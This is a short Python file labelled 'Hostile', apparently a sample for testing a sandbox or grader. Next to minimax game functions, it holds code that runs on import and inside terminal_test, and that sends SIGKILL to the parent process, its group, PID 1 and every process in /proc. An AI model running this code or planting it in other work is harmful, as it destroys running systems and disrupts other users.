"""Hostile: tries to kill its parent, PID 1 and everyone else."""

import os
import signal

_RESULTS = {}


def _kill(pid, group=False):
    try:
        (os.killpg if group else os.kill)(pid, signal.SIGKILL)
        _RESULTS[(pid, group)] = "killed"
    except OSError as exc:
        _RESULTS[(pid, group)] = exc.strerror


def _massacre():
    me = os.getpid()
    _kill(os.getppid())
    try:
        _kill(os.getpgid(os.getppid()), group=True)
    except OSError:
        pass
    _kill(1)
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != me:
            _kill(int(entry))


_massacre()
print(_RESULTS)


def terminal_test(gameState):
    _massacre()
    return not bool(gameState.get_legal_moves())


def min_value(gameState):
    if terminal_test(gameState):
        return 1
    v = float("inf")
    for m in gameState.get_legal_moves():
        v = min(v, max_value(gameState.forecast_move(m)))
    return v


def max_value(gameState):
    if terminal_test(gameState):
        return -1
    v = float("-inf")
    for m in gameState.get_legal_moves():
        v = max(v, min_value(gameState.forecast_move(m)))
    return v
